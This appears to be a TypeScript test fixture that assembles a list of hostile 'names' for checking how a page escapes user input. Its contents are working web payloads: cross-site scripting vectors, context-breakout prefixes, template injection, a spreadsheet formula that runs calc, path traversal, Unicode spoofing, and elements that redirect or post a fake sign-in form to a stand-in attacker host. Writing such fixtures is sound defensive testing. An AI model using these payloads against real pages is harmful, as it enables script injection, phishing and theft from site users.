/** What would run, were it taken for a program. */
const program = "document.title='pwned';alert(1)"
const elsewhere = '//evil.hostile.test'

/** Elements that run something, load something or change what is seen; each would carry the class `pwned`. */
const elements = [
  `<script class=pwned>${program}</script>`,
  `<img class=pwned src=x onerror="${program}">`,
  `<svg class=pwned onload="${program}"></svg>`,
  `<svg class=pwned><script>${program}</script></svg>`,
  `<iframe class=pwned srcdoc="<script>parent.${program}</script>"></iframe>`,
  `<iframe class=pwned src="javascript:parent.${program}"></iframe>`,
  `<a class=pwned href="javascript:${program}">open</a>`,
  `<body class=pwned onload="${program}">`,
  `<details class=pwned open ontoggle="${program}">x</details>`,
  `<input class=pwned autofocus onfocus="${program}">`,
  `<video class=pwned><source onerror="${program}"></video>`,
  `<style class=pwned>*{display:none!important}</style>`,
  `<link class=pwned rel=stylesheet href=${elsewhere}/x.css>`,
  `<meta class=pwned http-equiv=refresh content="0;url=${elsewhere}">`,
  `<base class=pwned href=${elsewhere}>`,
  `<object class=pwned data="${elsewhere}"></object>`,
  `<form class=pwned action=${elsewhere}><button>Sign in</button></form>`,
  `<math class=pwned><mi xlink:href="javascript:${program}">x</mi></math>`,
  `<template class=pwned><script>${program}</script></template>`,
  `<p class=pwned style="position:fixed;inset:0;background:url(${elsewhere})">x</p>`,
]

/** Where a name may stand in a page, and how it would get out of there. */
const placed: readonly ((element: string) => string)[] = [
  (element) => element,
  (element) => `">${element}`,
  (element) => `'>${element}`,
  (element) => `</script></style></title></textarea></noscript>${element}`,
  (element) => `--><!-- -->${element}`,
  (element) => `]]>${element}<![CDATA[`,
  (element) => element.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (element) => element.replaceAll('<', '\uFE64<').toUpperCase(),
]

const others = [
  `javascript:${program}`,
  `JaVaScRiPt:${program}`,
  `data:text/html,<script>${program}</script>`,
  `{{constructor.constructor("${program}")()}}`,
  `\${${program}}`,
  `#{${program}}`,
  `<%= ${program} %>`,
  `url(javascript:${program})`,
  `expression(${program})`,
  `red;background:url(${elsewhere})`,
  `}*{display:none!important}`,
  `=cmd|' /C calc'!A0`,
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '../../etc/passwd',
  '%00',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u202Egnp.exe',
  '\u2066turned\u2069 \u202Bround',
  'zero\u200Bwidth\u200D\u2060',
  'next\u0085line',
  'line\u2028paragraph\u2029',
  '\uFEFFmarked',
  'deleted\u007F',
  '\uFFFDreplaced',
  `many ${'\u0300'.repeat(60)}marks`,
  'W'.repeat(255),
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '\\',
  '"',
  '<',
  '&',
  '&amp;',
  '<!--',
]

/** Two hundred names that somebody might give to something so that a page does what they want. */
export const hostileNames: readonly string[] = [...elements.flatMap((element) => placed.map((place) => place(element))), ...others]
